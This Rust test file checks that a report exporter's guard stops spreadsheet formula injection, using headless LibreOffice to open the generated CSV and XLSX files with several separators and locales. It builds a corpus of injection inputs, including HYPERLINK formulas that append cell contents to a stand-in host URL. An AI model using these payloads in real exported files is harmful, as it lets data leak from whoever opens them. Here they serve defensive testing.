//! What a real spreadsheet makes of the files: LibreOffice opens them with every separator.

use super::guard::STARTERS;
use super::*;
use std::error::Error;
use std::fs;
use std::path::PathBuf;
use std::process::Command;
use tempfile::TempDir;

/// How a person may open the file: these separators, by their codes.
const SEPARATORS: [&str; 4] = ["44", "59", "9", "44/59/9"];
/// UTF-8, from line 1; the locale; numbers as LibreOffice finds them, formulas as they are written.
const US_ENGLISH: &str = ",34,76,1,,1033,false,true,false,false,false,0,true";
const GERMAN: &str = ",34,76,1,,1031,false,true,false,false,false,0,true";

/// LibreOffice with a profile of its own, and the files that it reads and makes.
struct Office {
    directory: TempDir,
}

impl Office {
    /// `None`, saying so, where there is no LibreOffice.
    #[expect(clippy::print_stderr, reason = "says that it could not test")]
    fn find() -> Result<Option<Office>, Box<dyn Error>> {
        if Command::new("soffice").arg("--version").output().is_err() {
            eprintln!("not tested: there is no LibreOffice (soffice) here");
            return Ok(None);
        }
        let directory = tempfile::tempdir()?;
        fs::create_dir(directory.path().join("in"))?;
        Ok(Some(Office { directory }))
    }

    fn input(&self, name: &str) -> PathBuf {
        self.directory.path().join("in").join(name)
    }

    /// Opens these files and saves each as `format`.
    fn convert(
        &self,
        names: &[String],
        filter: &str,
        format: &str,
    ) -> Result<Vec<String>, Box<dyn Error>> {
        let profile = format!(
            "-env:UserInstallation=file://{}",
            self.directory.path().join("profile").display()
        );
        let out = self.directory.path().join("out");
        let output = Command::new("soffice")
            .args([&profile, "--headless", "--convert-to", format])
            .args((!filter.is_empty()).then(|| format!("--infilter=CSV:{filter}")))
            .arg("--outdir")
            .arg(&out)
            .args(names.iter().map(|name| self.input(name)))
            .output()?;
        assert!(output.status.success(), "{output:?}");
        let extension = format.split(':').next().unwrap_or_default();
        let read = |name: &String| fs::read_to_string(out.join(name).with_extension(extension));
        Ok(names.iter().map(read).collect::<Result<_, _>>()?)
    }

    /// The cells of a workbook's sheet, line by line: texts quoted, numbers as they are stored.
    fn sheet(&self, name: &str, sheet: &str) -> Result<Vec<Vec<String>>, Box<dyn Error>> {
        let profile = format!(
            "-env:UserInstallation=file://{}",
            self.directory.path().join("profile").display()
        );
        // The last field is the sheets: all, each in its own file.
        let as_csv =
            "csv:Text - txt - csv (StarCalc):44,34,76,1,,1033,true,true,false,false,false,-1";
        let out = self.directory.path().join("sheets");
        let output = Command::new("soffice")
            .args([&profile, "--headless", "--convert-to", as_csv, "--outdir"])
            .arg(&out)
            .arg(self.input(name))
            .output()?;
        assert!(output.status.success(), "{output:?}");
        let stem = name.trim_end_matches(".xlsx");
        let mut reader = ::csv::ReaderBuilder::new()
            .has_headers(false)
            .flexible(true)
            .from_path(out.join(format!("{stem}-{sheet}.csv")))?;
        let records = reader.records();
        records.map(|record| Ok(record?.iter().map(str::to_owned).collect())).collect()
    }

    /// The cells that it shows, line by line.
    fn cells(&self, name: &str, filter: &str) -> Result<Vec<Vec<String>>, Box<dyn Error>> {
        let as_csv = "csv:Text - txt - csv (StarCalc):44,34,76,1,,1033,true,true,false";
        let shown = self.convert(&[name.to_owned()], filter, as_csv)?.concat();
        let mut reader =
            ::csv::ReaderBuilder::new().has_headers(false).from_reader(shown.as_bytes());
        let records = reader
            .records()
            .map(|record| Ok(record?.iter().map(str::to_owned).collect::<Vec<String>>()));
        records.collect()
    }
}

/// Every starter at every place of a text where some program could begin a cell.
fn corpus() -> Vec<String> {
    const FORMULAS: [&str; 3] = ["1+1", "HYPERLINK(\"http://x/?\"&A1;\"y\")", "A1\";=1+1"];
    let mut corpus = vec!["late;=HYPERLINK(\"http://x/?\"&A1);z".to_owned()];
    let starters = STARTERS.into_iter().chain(['\t', '\r', '\n', '−', '﹦']);
    for starter in starters {
        for before in ["", "a,", "a;", "a\t", "a\n", "a\r", "\"", "\";", ";;"] {
            for between in ["", " ", "\"", " \"", "“", "\u{A0}", "'"] {
                let formula = FORMULAS[corpus.len() % FORMULAS.len()];
                corpus.push(format!("{before}{between}{starter}{formula}"));
            }
        }
    }
    corpus
}

fn formulas(document: &str) -> Vec<&str> {
    document.split("table:formula=\"").skip(1).filter_map(|rest| rest.split('"').next()).collect()
}

#[test]
fn libreoffice_runs_nothing_and_moves_nothing() -> Outcome {
    let Some(office) = Office::find()? else { return Ok(()) };
    let corpus = corpus();
    let rows: Vec<ReportRow> = corpus.iter().map(|text| all_texts(text)).collect();
    let invalid_rows: Vec<InvalidRow> =
        corpus.iter().map(|text| invalid(7, text.as_bytes())).collect();
    let mut names = Vec::new();
    for (number, delimiter) in [",", ";", "\t"].into_iter().enumerate() {
        let delimiter = Delimiter::try_from(delimiter.to_owned())?;
        let settings = ReportSettings { delimiter, ..ReportSettings::default() };
        let name = format!("{number}.csv");
        publish(&office.input(&name), &settings, &rows, &invalid_rows)?;
        names.extend([name, format!("{number}-invalid-rows.csv")]);
    }
    for separators in SEPARATORS {
        let documents = office.convert(&names, &format!("{separators}{US_ENGLISH}"), "fods")?;
        for (name, document) in names.iter().zip(&documents) {
            assert!(document.contains("HYPERLINK"), "{name}");
            assert_eq!(formulas(document), [""; 0], "{name} opened with {separators}");
        }
    }
    for (number, separator) in ["44", "59", "9"].into_iter().enumerate() {
        let filter = format!("{separator}{US_ENGLISH}");
        let shown = office.cells(&format!("{number}.csv"), &filter)?;
        assert_eq!(shown.len(), rows.len() + 1);
        assert_eq!(shown[0], COLUMNS);
        for (row, text) in shown[1..].iter().zip(&corpus) {
            assert_eq!(row.len(), COLUMNS.len(), "{text:?}");
            assert_eq!([&row[0], &row[14], &row[29]], ["12", "-10", "gateway"], "{text:?}");
        }
        let shown = office.cells(&format!("{number}-invalid-rows.csv"), &filter)?;
        assert_eq!(shown.len(), rows.len() + 1);
        assert!(shown.iter().all(|row| row.len() == 4));
    }
    Ok(())
}

/// The control: without the guard the same corpus is run, so the test above can fail.
#[test]
fn libreoffice_runs_what_is_not_guarded() -> Outcome {
    let Some(office) = Office::find()? else { return Ok(()) };
    let rows: Vec<ReportRow> = corpus().iter().map(|text| all_texts(text)).collect();
    publish(&office.input("plain.csv"), &plain(), &rows, &[])?;
    for separators in ["44", "59"] {
        let filter = format!("{separators}{US_ENGLISH}");
        let document = office.convert(&["plain.csv".to_owned()], &filter, "fods")?.concat();
        assert!(!formulas(&document).is_empty(), "opened with {separators}");
    }
    Ok(())
}

#[test]
fn libreoffice_reads_german_numbers() -> Outcome {
    let Some(office) = Office::find()? else { return Ok(()) };
    let settings = ReportSettings {
        delimiter: Delimiter::try_from(";".to_owned())?,
        decimal_separator: DecimalSeparator::Comma,
        ..ReportSettings::default()
    };
    publish(&office.input("german.csv"), &settings, &[unverified(), short_payment()], &[])?;
    let document =
        office.convert(&["german.csv".to_owned()], &format!("59{GERMAN}"), "fods")?.concat();
    for number in ["7.125", "-10", "490", "500"] {
        assert!(document.contains(&format!("office:value=\"{number}\"")), "{number}");
    }
    Ok(())
}

#[test]
fn libreoffice_shows_the_workbooks_cells() -> Outcome {
    let Some(office) = Office::find()? else { return Ok(()) };
    // A text with a line's end at its end is shown without it.
    let corpus: Vec<String> =
        corpus().into_iter().filter(|text| !text.contains(['\n', '\r'])).step_by(7).collect();
    let mut rows = vec![short_payment(), unverified()];
    rows.extend(corpus.iter().map(|text| all_texts(text)));
    publish(&office.input("book.csv"), &ReportSettings::default(), &rows, &[])?;
    let shown = office.sheet("book.xlsx", "Findings")?;
    assert_eq!(shown.len(), rows.len() + 1);
    assert_eq!(shown[0], COLUMNS);
    let cell = |row: usize, name: &str| {
        let column = COLUMNS.iter().position(|heading| *heading == name).unwrap_or_default();
        shown[row][column].as_str()
    };
    let first = ["merchant_order_id", "order_date", "at_risk", "variance", "final_amount"];
    let expected = ["00123456789012345678", "2026-11-20", "10", "-10", "490"];
    assert_eq!(first.map(|name| cell(1, name)), expected);
    assert_eq!(cell(2, "at_risk"), "7.125");
    for (index, text) in corpus.iter().enumerate() {
        assert_eq!(cell(index + 3, "merchant_order_id"), text, "{text:?}");
    }
    let names = ["book.xlsx".to_owned()];
    let document = office.convert(&names, "", "fods")?.concat();
    assert!(document.contains("HYPERLINK"));
    assert_eq!(formulas(&document), [""; 0]);
    Ok(())
}
